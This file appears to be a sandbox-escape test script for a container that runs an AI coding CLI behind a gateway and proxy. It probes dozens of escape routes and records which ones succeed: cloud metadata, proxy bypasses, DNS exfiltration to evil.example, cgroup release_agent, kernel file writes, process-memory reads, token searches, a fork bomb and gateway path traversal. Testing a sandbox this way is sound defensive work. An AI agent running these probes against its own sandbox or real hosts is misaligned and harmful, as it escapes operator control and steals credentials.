"""Tries to get out. Each function says what it reached, or nothing. Prints nothing; report.json tells."""
import ctypes
import json
import os
import re
import socket
import subprocess

GATEWAY, PROXY = ("127.0.0.1", 4001), ("127.0.0.1", 4002)
TOKEN = os.environ["ANTHROPIC_API_KEY"]
QUESTION = {"model": "claude-sonnet-5", "max_tokens": 1, "messages": [{"role": "user", "content": "SAY hello"}]}


def talk(address, request):
    with socket.create_connection(address, 5) as connection:
        connection.settimeout(5)
        connection.sendall(request if isinstance(request, bytes) else request.encode())
        answer = b""
        while b"\r\n" not in answer:
            part = connection.recv(4096)
            if not part:
                break
            answer += part
    return answer.split(b"\r\n")[0].decode(errors="replace")


def passes(answer):
    return answer if " 2" in answer[:12] else None


def connects(target):
    name = target if isinstance(target, bytes) else target.encode()
    return passes(talk(PROXY, b"CONNECT " + name + b" HTTP/1.1\r\nhost: " + name + b"\r\n\r\n"))


def asks(method, path, body=QUESTION, host="gateway"):
    text = json.dumps(body)
    head = f"{method} {path} HTTP/1.1\r\nhost: {host}\r\nx-api-key: {TOKEN}\r\nanthropic-version: 2023-06-01\r\n"
    head += f"content-type: application/json\r\ncontent-length: {len(text)}\r\nconnection: close\r\n\r\n{text}"
    return talk(GATEWAY, head)


def reaches(address, port):
    try:
        socket.create_connection((address, port), 2).close()
        return f"{address}:{port}"
    except OSError:
        return None


def first(found):
    return next((one for one in found if one), None)


def metadata():
    return reaches("169.254.169.254", 80)


def metadata_v6():
    return reaches("fd00:ec2::254", 80)


def metadata_by_proxy():
    return first(connects(f"169.254.169.254:{port}") for port in (80, 443))


def numbers_by_proxy():
    names = ["2130706433", "0x7f000001", "0177.0.0.1", "127.1", "localhost", "[::1]", "[::ffff:127.0.0.1]", "172.17.0.1", "0.0.0.0"]
    return first(connects(f"{name}:443") for name in names)


def dns():
    try:
        return socket.gethostbyname("c2VjcmV0.evil.example")
    except OSError:
        return None


def raw_dns():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as packet:
        try:
            return f"sent {packet.sendto(b'x' * 32, ('8.8.8.8', 53))}"
        except OSError:
            return None


def direct():
    return first(reaches(address, 443) for address in ("1.1.1.1", "140.82.121.4", "2606:4700:4700::1111"))


def zero_byte():
    return connects(b"evil.example\x00.example.com:443")


def prefix():
    return first(connects(f"{name}:443") for name in ("example.com.evil.example", "evil-example.com", "example.community"))


def port():
    return first(connects(f"example.com:{number}") for number in (22, 25, 80, 8443))


def docker():
    paths = ["/var/run/docker.sock", "/run/docker.sock", "/run/containerd/containerd.sock"]
    return first(path if os.path.exists(path) else None for path in paths)


def walk(names):
    for root, folders, files in os.walk("/"):
        folders[:] = [] if root in ("/proc", "/sys", "/dev") else folders
        yield from (os.path.join(root, name) for name in files + folders if name in names)


def hub():
    return first(walk(["signalbox.sock", "signalbox.db", "master.key", "token.key", "hub.lock", "quarantine"]))


def readable(path):
    try:
        with open(path, "rb") as file:
            return file.read()
    except OSError:
        return b""


def proc_root():
    """The host has a folder that no image has."""
    roots = [f"/proc/{entry}/{way}" for entry in filter(str.isdigit, os.listdir("/proc")) for way in ("root", "cwd/..", "cwd/../..")]
    return first(root if os.path.exists(f"{root}/var/lib/docker") else None for root in roots)


def open_folders():
    for entry in filter(str.isdigit, os.listdir("/proc")):
        try:
            links = [os.readlink(f"/proc/{entry}/fd/{fd}") for fd in os.listdir(f"/proc/{entry}/fd")]
        except OSError:
            continue
        for link in links:
            if link.startswith("/sys/fs/cgroup") or link.startswith("/var/lib/docker") or "(unreachable)" in link:
                return link
    return None


def runs(*command):
    done = subprocess.run(command, stdin=subprocess.DEVNULL, capture_output=True, timeout=20)
    return " ".join(command) if done.returncode == 0 else None


def release_agent():
    os.makedirs("/tmp/group", exist_ok=True)
    mounted = runs("mount", "-t", "cgroup", "-o", "rdma", "cgroup", "/tmp/group")
    return mounted or first(writes(path) for path in ("/sys/fs/cgroup/release_agent", "/sys/fs/cgroup/cgroup.procs"))


def namespace():
    libc = ctypes.CDLL(None, use_errno=True)
    return first("unshare" if libc.unshare(flag) == 0 else None for flag in (0x10000000, 0x00020000, 0x40000000))


def device():
    try:
        os.mknod("/tmp/disk", 0o60666, os.makedev(254, 0))
        return "/tmp/disk"
    except OSError:
        return first(name if name.startswith(("sd", "vd", "nvme", "loop", "mem", "kmsg")) else None for name in os.listdir("/dev"))


def writes(path):
    try:
        with open(path, "r+b") as file:
            file.write(b"")
        return path
    except OSError:
        return None


def kernel():
    paths = ["/proc/sys/kernel/core_pattern", "/proc/sysrq-trigger", "/proc/sys/kernel/modprobe", "/sys/kernel/uevent_helper",
             "/proc/sys/fs/binfmt_misc/register"]
    return first(writes(path) for path in paths)


def overwrite():
    paths = ["/usr/local/bin/claude", "/usr/bin/tini", "/usr/local/lib/signalbox/enter", "/usr/local/lib/signalbox/collect",
             "/usr/bin/git", "/etc/passwd", "/etc/ld.so.preload"]
    return first(writes(path) for path in paths)


def setuid():
    done = subprocess.run(["find", "/", "-xdev", "-type", "f", "-perm", "/6000"], capture_output=True, text=True)
    return done.stdout.strip() or None


def processes_named(name):
    return [entry for entry in filter(str.isdigit, os.listdir("/proc")) if name.encode() in readable(f"/proc/{entry}/cmdline")]


def memory():
    found = processes_named("/usr/local/bin/claude")
    assert found, "the CLI runs"
    for entry in found:
        for part in ("mem", "environ", "maps", "auxv"):
            try:
                with open(f"/proc/{entry}/{part}", "rb") as file:
                    if part != "mem" and file.read(16):
                        return f"/proc/{entry}/{part}"
                    if part == "mem":
                        return f"/proc/{entry}/mem"
            except OSError:
                pass
    return None


def holding(words):
    """Files and processes with these words, which are given backwards so that the search does not find itself."""
    word = words[::-1]
    for entry in filter(str.isdigit, os.listdir("/proc")):
        for part in ("environ", "cmdline"):
            if word.encode() in readable(f"/proc/{entry}/{part}"):
                yield f"/proc/{entry}/{part}"
    roots = [f"/{name}" for name in os.listdir("/") if name not in ("proc", "sys", "dev")]
    search = subprocess.run(["grep", "-rlsF", "-f", "-", *roots], input=word, capture_output=True, text=True)
    yield from search.stdout.splitlines()


def holding_like(pattern):
    """The same by a pattern, which is not like itself."""
    for entry in filter(str.isdigit, os.listdir("/proc")):
        for part in ("environ", "cmdline"):
            if re.search(pattern.encode(), readable(f"/proc/{entry}/{part}")):
                yield f"/proc/{entry}/{part}"
    roots = [f"/{name}" for name in os.listdir("/") if name not in ("proc", "sys", "dev")]
    yield from subprocess.run(["grep", "-rlsE", pattern, *roots], capture_output=True, text=True).stdout.splitlines()


def key():
    return first(holding("rotarepo-eht-fo-yek-laer-eht-ks"))


def github():
    return first(holding_like("ghs[_][A-Za-z0-9]{16}")) or first(found for words in ("@KEY@", "@SECRET@") for found in holding(words))


def other_project():
    return first(holding("tcejorp-rehtona-fo-sdrow-eht"))


def processes():
    children = []
    try:
        for _ in range(20000):
            children.append(subprocess.Popen(["sleep", "30"], stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL))
    except OSError:
        return None
    finally:
        for child in children:
            child.kill()
    return f"{len(children)} processes"


def gateway_route():
    paths = [("GET", "/v1/files"), ("POST", "/v1/messages/batches"), ("GET", "/v1/organizations/me"), ("POST", "/v1/complete")]
    return first(passes(asks(method, path)) for method, path in paths)


def gateway_path():
    return first(passes(asks("GET", path)) for path in ("/v1/messages/../files", "/v1/messages/%2e%2e/files", "//v1/files", "/v1/messages;/../files"))


def gateway_host():
    # Where a request went is seen by its answer: the model knows no such route.
    return passes(asks("GET", "http://169.254.169.254/latest/meta-data", host="169.254.169.254"))


def gateway_tool():
    tools = [{"type": "web_fetch_20250910", "name": "web_fetch"}]
    return passes(asks("POST", "/v1/messages", dict(QUESTION, tools=tools)))


def control():
    with open("/tmp/control", "w") as file:
        file.write("here is a control-word of ours, and ghs_" + "a1B2" * 5)
    found = "/tmp/control" in list(holding("drow-lortnoc")) and "/tmp/control" in list(holding_like("ghs[_][A-Za-z0-9]{16}"))
    os.remove("/tmp/control")
    # Nobody answers there, but the proxy does not refuse the name.
    passed = talk(PROXY, "CONNECT example.com:443 HTTP/1.1\r\nhost: example.com:443\r\n\r\n")
    return {
        "reads its own": bool(readable("/proc/self/environ")),
        "finds what is there": found,
        "asks the model": " 200" in asks("POST", "/v1/messages"),
        "passes an allowed name on": " 403" not in passed,
    }


names = ["metadata", "metadata_v6", "metadata_by_proxy", "numbers_by_proxy", "dns", "raw_dns", "direct", "zero_byte", "prefix", "port",
         "docker", "hub", "proc_root", "open_folders", "release_agent", "namespace", "device", "kernel", "overwrite", "setuid",
         "memory", "key", "github", "other_project", "gateway_route", "gateway_path", "gateway_host", "gateway_tool", "processes"]
report = {"controls": control(), "reached": {}}
for name in names:
    try:
        report["reached"][name] = globals()[name]()
    except Exception as error:
        report["reached"][name] = f"failed: {error!r}"
with open("report.json", "w") as file:
    json.dump(report, file, indent=1)
